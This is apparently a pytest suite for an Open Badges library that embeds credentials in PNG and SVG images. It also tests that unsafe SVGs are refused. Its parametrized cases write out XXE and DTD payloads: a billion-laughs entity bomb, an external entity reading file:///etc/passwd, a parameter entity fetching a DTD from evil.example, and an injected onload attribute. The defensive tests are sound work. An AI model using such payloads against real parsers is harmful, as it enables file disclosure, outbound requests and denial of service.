from __future__ import annotations

import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from images import SVG, png
from openmicrocred.bake import bake, is_svg, unbake
from openmicrocred.bake.png import KEYWORD
from openmicrocred.errors import BakeError

from conftest import SPEC, load

JWS = "eyJhbGciOiJFZERTQSJ9.eyJhIjoxfQ.c2ln"


def _itxt_chunks(data: bytes) -> list[bytes]:
    out, pos = [], 8
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        kind = data[pos + 4 : pos + 8]
        if kind == b"iTXt":
            out.append(data[pos + 8 : pos + 8 + length])
        pos += 12 + length
    return out


def test_png_round_trip_and_format() -> None:
    credential = load(SPEC / "ob3-basic.unsigned.json")
    image = png()
    baked = bake(image, credential)
    assert json.loads(unbake(baked)) == credential
    chunks = _itxt_chunks(baked)
    assert len(chunks) == 1
    keyword, rest = chunks[0].split(b"\0", 1)
    assert keyword == KEYWORD
    assert rest[:4] == b"\0\0\0\0"  # uncompressed, method 0, empty language and keyword
    # Everything else is unchanged, and the chunk sits just before IEND.
    start = baked.index(b"iTXt") - 4
    end = start + 12 + len(chunks[0])
    assert baked[:start] + baked[end:] == image
    assert baked[end:] == image[-12:]


def test_rebaking_replaces() -> None:
    once = bake(png(), load(SPEC / "ob3-basic.unsigned.json"))
    twice = bake(once, JWS)
    assert unbake(twice) == JWS
    assert len(_itxt_chunks(twice)) == 1
    assert bake(twice, JWS) == twice


def test_svg_round_trip_json_and_jws() -> None:
    credential = load(SPEC / "ob3-basic.unsigned.json")
    baked = bake(SVG, credential)
    assert b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert b"<![CDATA[" in baked
    assert json.loads(unbake(baked)) == credential
    rebaked = bake(baked, JWS)
    assert unbake(rebaked) == JWS
    assert rebaked.count(b"openbadges:credential") == 1
    assert b'verify="' + JWS.encode() + b'"' in rebaked
    # The image itself is untouched.
    assert b'<circle cx="5" cy="5" r="4" fill="#c60"/>\n</svg>\n' in rebaked


def test_unsafe_and_broken_images() -> None:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    )
    with pytest.raises(BakeError, match="unsafe"):
        unbake(bomb)
    with pytest.raises(BakeError, match="no Open Badges credential"):
        unbake(png())
    with pytest.raises(BakeError, match="no Open Badges credential"):
        unbake(SVG)
    with pytest.raises(BakeError, match="only PNG and SVG"):
        unbake(b"GIF89a....")
    baked = bake(png(), JWS)
    with pytest.raises(BakeError):
        unbake(baked[:-20])  # truncated
    corrupt = bytearray(baked)
    corrupt[40] ^= 0xFF
    with pytest.raises(BakeError, match=r"CRC|truncated"):
        unbake(bytes(corrupt))


def test_two_credentials_are_refused() -> None:
    body = KEYWORD + b"\0\0\0\0\0" + JWS.encode()
    chunk = (
        struct.pack(">I", len(body))
        + b"iTXt"
        + body
        + struct.pack(">I", zlib.crc32(b"iTXt" + body))
    )
    image = png()
    doubled = image[:-12] + chunk + chunk + image[-12:]
    with pytest.raises(BakeError, match="more than one"):
        unbake(doubled)
    svg2 = SVG.replace(
        b"<circle",
        b"<openbadges:credential xmlns:openbadges="
        b'"https://purl.imsglobal.org/ob/v3p0" verify="a.b.c"/>'
        b"<openbadges:credential xmlns:openbadges="
        b'"https://purl.imsglobal.org/ob/v3p0" verify="a.b.c"/><circle',
    )
    with pytest.raises(BakeError, match="more than one"):
        unbake(svg2)


@given(st.text(min_size=1, max_size=500).filter(lambda s: s.strip() and s.strip()[0] != "{"))
def test_png_bakes_any_text(text: Any) -> None:
    assert unbake(bake(png(), {"note": text})) == json.dumps(
        {"note": text}, ensure_ascii=False, separators=(",", ":")
    )


@given(st.dictionaries(st.text(max_size=10), st.text(max_size=50), max_size=5))
def test_svg_bakes_any_json(data: dict[str, str]) -> None:
    assert json.loads(unbake(bake(SVG, data))) == data


# Document type declarations ------------------------------------------------------------------

VALIDATOR_SVG = Path(__file__).parent / "vectors" / "1edtech-validator-svg"
_DOCTYPE = (
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
)


def test_svg_with_a_doctype_reads_and_bakes() -> None:
    # 1EdTech's own fixtures carry the SVG 1.1 DOCTYPE; the external DTD is never read.
    image = (VALIDATOR_SVG / "simple-json.svg").read_bytes()
    assert b"<!DOCTYPE svg PUBLIC" in image
    credential = json.loads(unbake(image))
    assert credential["type"] == ["VerifiableCredential", "OpenBadgeCredential"]
    assert credential["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"
    assert unbake((VALIDATOR_SVG / "simple-jwt.svg").read_bytes()).startswith("eyJ")
    # Our own SVG with a DOCTYPE (no XML declaration) is recognised, baked and read back.
    doctyped = _DOCTYPE + SVG.split(b"?>\n", 1)[1]
    assert is_svg(doctyped)
    data = load(SPEC / "ob3-basic.unsigned.json")
    baked = bake(doctyped, data)
    assert baked.startswith(_DOCTYPE)
    assert json.loads(unbake(baked)) == data
    # A subset with only element declarations and comments declares nothing that expands.
    plain = b"<!DOCTYPE svg [<!ELEMENT svg ANY><!-- note -->]>\n" + SVG.split(b"?>\n", 1)[1]
    assert unbake(bake(plain, JWS)) == JWS


_SVG_BODY = b'<svg xmlns="http://www.w3.org/2000/svg"><title>&a;</title></svg>'


@pytest.mark.parametrize(
    ("subset", "message"),
    [
        # an internal subset declaring an entity
        (b'<!ENTITY a "Teamwork">', r"declares an XML entity 'a'.*never expanded"),
        # billion laughs
        (
            b'<!ENTITY a0 "lol">'
            + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 10))
            + b'<!ENTITY a "&a9;">',
            r"declares an XML entity 'a0'",
        ),
        # an external entity, and an external parameter entity
        (
            b'<!ENTITY a SYSTEM "file:///etc/passwd">',
            r"declares an external entity 'a' \(SYSTEM 'file:///etc/passwd'\)",
        ),
        (
            b'<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;',
            r"declares an external entity 'p' \(SYSTEM 'https://evil.example/x.dtd'\)",
        ),
        # a default attribute would change the document without showing in it
        (b'<!ATTLIST svg onload CDATA "alert(1)">', r"declares attribute 'onload' of <svg>"),
    ],
    ids=["entity", "billion-laughs", "external-entity", "external-parameter-entity", "attlist"],
)
def test_svg_dtd_declarations_are_refused(subset: bytes, message: str) -> None:
    image = b'<?xml version="1.0"?>\n<!DOCTYPE svg [' + subset + b"]>\n" + _SVG_BODY
    assert is_svg(image)
    with pytest.raises(BakeError, match=r"^unsafe SVG refused: the DTD " + message):
        unbake(image)
    with pytest.raises(BakeError, match="unsafe SVG refused"):
        bake(image, JWS)


def test_svg_undeclared_entity_and_oversized_input_are_refused() -> None:
    # With the external DTD unread, &nbsp; stays undefined: a clear well-formedness error.
    image = _DOCTYPE + b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>'
    with pytest.raises(BakeError, match="not a well-formed SVG: undefined entity &nbsp;"):
        unbake(image)
    huge = _DOCTYPE + b'<svg xmlns="http://www.w3.org/2000/svg">' + b" " * 20_000_000 + b"</svg>"
    with pytest.raises(BakeError, match=r"SVG too large \(\d+ bytes; at most 20000000\)"):
        unbake(huge)
